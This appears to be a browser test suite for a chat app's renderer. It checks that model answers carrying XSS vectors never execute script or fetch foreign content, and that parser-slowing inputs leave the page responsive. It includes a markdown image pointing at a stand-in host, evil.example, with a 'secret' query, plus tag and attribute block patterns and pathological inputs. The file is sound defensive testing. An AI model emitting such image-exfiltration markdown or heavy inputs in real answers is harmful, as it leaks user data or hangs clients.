/** What a model writes is never run, and nothing of it is fetched: G11; faults 121, 122 and 123. */
import assert from "node:assert/strict";
import { answered, articles, composer, grown, open, say, send } from "../harness/chat.mjs";
import { until } from "../harness/children.mjs";
import { source } from "../harness/corpus.mjs";
import { collecting, measure } from "../harness/measure.mjs";
import { simText } from "../harness/prompts.mjs";
import { test } from "../harness/registry.mjs";

/** Says aloud whatever is executed. */
function alarm() {
  globalThis.alarms = [];
  for (const name of ["alert", "confirm", "prompt", "print"]) {
    globalThis[name] = (...args) => globalThis.alarms.push(`${name}(${args.join()})`);
  }
  for (const name of ["pwned", "xss", "hacked"]) {
    Object.defineProperty(globalThis, name, {
      set: () => globalThis.alarms.push(name),
      get: () => () => globalThis.alarms.push(name),
    });
  }
}

/** What no rendered text may contain, whatever its source. */
function audit() {
  const wrong = [];
  const log = document.querySelector('[role="log"]');
  const parts = log.querySelectorAll('[data-part], article[data-role="user"]');
  for (const part of parts) {
    for (const element of part.querySelectorAll("*")) {
      const name = element.localName;
      const isOurs = element.closest("button, summary, .katex") !== null;
      if (
        /^(script|iframe|frame|object|embed|applet|form|base|meta|link|style|template|portal|noscript|video|audio|source|input)$/.test(
          name,
        )
      ) {
        const isTask = name === "input" && element.type === "checkbox" && element.disabled;
        if (!isTask && !isOurs) wrong.push(`<${name}>`);
      }
      if (/^(svg|math|foreignObject|animate|set|use)$/.test(name) && !isOurs) wrong.push(`<${name}>`);
      for (const { name: attribute, value } of element.attributes) {
        if (/^on|^srcdoc$|^formaction$|^xlink:/i.test(attribute)) wrong.push(`${name} ${attribute}=${value}`);
        if (
          /^(href|src|action|poster|data|srcset)$/i.test(attribute) &&
          !/^(https?:|mailto:|tel:|#)/i.test(value)
        ) {
          if (!/^data:image\/(png|jpeg|gif|webp|svg)/.test(value) || name !== "img")
            wrong.push(`${name} ${attribute}=${value}`);
        }
        if (name === "img" && attribute === "src" && /^https?:/.test(value)) wrong.push(`img src=${value}`);
      }
      if (name === "a" && element.hasAttribute("href") && /^https?:/.test(element.getAttribute("href"))) {
        if (!/noopener/.test(element.rel) || !/noreferrer/.test(element.rel))
          wrong.push(`a without rel: ${element.outerHTML}`);
      }
    }
  }
  return {
    wrong,
    alarms: globalThis.alarms,
    answers: log.querySelectorAll('article[data-role="assistant"]').length,
  };
}

/** Says them all in conversations of `size`, several waiting at a time, as fast as they are answered. */
async function provoke(page, stack, vectors, size) {
  await open(page, stack, "/");
  for (let from = 0; from < vectors.length; from += size) {
    await page.getByRole("button", { name: "New chat" }).first().click();
    await until("an empty thread", async () => (await articles(page).count()) === 0);
    const batch = vectors.slice(from, from + size);
    for (const vector of batch) await send(page, vector);
    const done = page.locator(
      'article[data-role="assistant"]:is([data-outcome="done"],[data-outcome="failed"])',
    );
    await until(
      `answers ${from} to ${from + batch.length}`,
      async () => (await done.count()) >= batch.length,
      40_000,
    );
    await page.evaluate(() => new Promise((resolve) => requestAnimationFrame(() => setTimeout(resolve, 30))));
    const found = await page.evaluate(audit);
    assert.deepEqual(found.wrong, [], `in answers ${from} to ${from + batch.length}`);
    assert.deepEqual(found.alarms, []);
    assert.equal(found.answers, batch.length);
  }
}

const SHARES = 4;
for (let share = 0; share < SHARES; share++) {
  // faults: J121, J122
  test(`hostile answers, share ${share + 1} of ${SHARES}`, {
    goal: "G11",
    seconds: 20,
    timeout: 120_000,
  }, async (t) => {
    const { hostile } = await source("src/testing/hostile.ts");
    const texts = hostile.map((one) => (typeof one === "string" ? one : (one.text ?? one.markdown)));
    assert.ok(texts.length >= 500, `${texts.length} vectors`);
    const usable = texts.filter((text) => text.trim() !== "" && Buffer.byteLength(text) < 30_000);
    const mine = usable.filter((_, k) => k % SHARES === share);
    // Every other one is cut over many deltas, the rest comes in one go.
    const stack = await t.stack({ nginx: share % 2 === 0, pace: share < 2 ? 0 : 1, first: 0 });
    const context = await t.context(stack);
    await context.addInitScript(alarm);
    const page = await context.newPage();
    page.on("dialog", (dialog) => dialog.dismiss());
    const vectors = mine.map((text) => simText(text, `seed=${share}`));
    await provoke(page, stack, vectors, 16);
    t.figure({ case: `share ${share + 1}`, vectors: vectors.length, executed: 0, foreign_requests: 0 });
  });
}

// faults: J122
test("a picture of a model is a link that says where it leads", { goal: "G11" }, async (t) => {
  const stack = await t.stack();
  const page = await t.page(stack);
  await open(page, stack);
  await say(
    page,
    simText(
      "Look: ![the moon](https://evil.example/moon.png?q=secret) and ![x][1]\n\n[1]: https://evil.example/2.gif",
    ),
  );
  await answered(page);
  const links = page.locator('[data-part="text"] a[href^="https://evil.example/"]');
  // Until the renderer is there, one sees plain text.
  await links.nth(1).waitFor();
  assert.equal(await links.count(), 2);
  assert.match(await links.first().textContent(), /evil\.example/);
  assert.equal(await page.locator('[data-part="text"] img').count(), 0);
});

/** Texts that make parsers slow. */
const HEAVY = {
  "nested quotes": ">".repeat(10_000) + " deep",
  "nested lists": Array.from({ length: 400 }, (_, k) => `${" ".repeat(k * 2)}- x`)
    .join("\n")
    .slice(0, 30_000),
  "open fence": `\`\`\`js\n${"let tide = 'never closed';\n".repeat(800)}`,
  brackets: "[".repeat(10_000),
  pictures: "![".repeat(8000),
  emphasis: "*a_ ".repeat(5000),
  "stars and lines": "**x_*y_".repeat(3000),
  ticks: Array.from({ length: 160 }, (_, k) => "`".repeat(k + 1)).join(" "),
  angles: "<".repeat(15_000),
  entities: "&lt;".repeat(5000),
  pipes: `${"|a".repeat(1500)}\n${"|-".repeat(1500)}\n${"|b".repeat(1500)}`,
  dollars: "$".repeat(5000),
  "thousand columns": `${"|a".repeat(2000)}\n${"|-".repeat(2000)}\n${"|b".repeat(2000)}`,
  "only bars": "|".repeat(28_000),
  "nested details": "<details>\n".repeat(2500),
  footnotes: Array.from({ length: 800 }, (_, k) => `x[^${k}]\n\n[^${k}]: y\n\n`).join(""),
  "unclosed marks": "**a *b `c $d ~~e [f ![g ".repeat(800),
  prices: "costs $5 and $6, ".repeat(1500),
  "a long formula": `$$\n${"x + ".repeat(7000)}1\n$$`,
  "open maths": "\\(".repeat(4000),
  "links of links": "[a](".repeat(5000),
  definitions: Array.from({ length: 1500 }, (_, k) => `[${k}]: /x`).join("\n"),
  "zero width": "\u200b\u202e\u2066".repeat(4000),
};

// faults: J123
test("heavy texts leave the page alive", { seconds: 12, goal: "G11", timeout: 120_000 }, async (t) => {
  const stack = await t.stack({ nginx: false, pace: 0, first: 0 });
  const context = await t.context(stack);
  await collecting(context);
  const page = await context.newPage();
  await open(page, stack);
  const worst = {};
  for (const [name, text] of Object.entries(HEAVY)) {
    await page.getByRole("button", { name: "New chat" }).first().click();
    const meter = await measure(page);
    await say(page, simText(text));
    await answered(page, { count: 1 });
    await composer(page).fill("still alive");
    assert.equal(await composer(page).inputValue(), "still alive");
    worst[name] = (await meter.end()).longest_ms;
  }
  const longest = Math.max(...Object.values(worst));
  t.figure(
    {
      case: "heavy texts",
      longest_ms: longest,
      which: Object.keys(worst).find((name) => worst[name] === longest),
      worst,
    },
    { longest_ms: 1000 },
  );
});

// faults: J123
test("one line of a megabyte", { goal: "G11", timeout: 90_000 }, async (t) => {
  const stack = await t.stack({ nginx: false, pace: 0, first: 0 });
  const context = await t.context(stack);
  await collecting(context);
  const page = await context.newPage();
  await open(page, stack);
  const meter = await measure(page);
  await say(page, "/sim tokens=170000 word_len=5 pace_ms=0.02 seed=7");
  await grown(page, 100_000, 60_000);
  await composer(page).fill("still alive");
  await page
    .locator('article[data-outcome="done"], article[data-outcome="failed"]')
    .first()
    .waitFor({ timeout: 60_000 });
  const shown = (await page.locator('article[data-role="assistant"] [data-part="text"]').last().textContent())
    .length;
  const found = await meter.end();
  assert.equal(await composer(page).inputValue(), "still alive");
  t.figure(
    { case: "one line", characters: shown, longest_ms: found.longest_ms, blocked_ms: found.blocked_ms },
    { longest_ms: 1500 },
  );
});
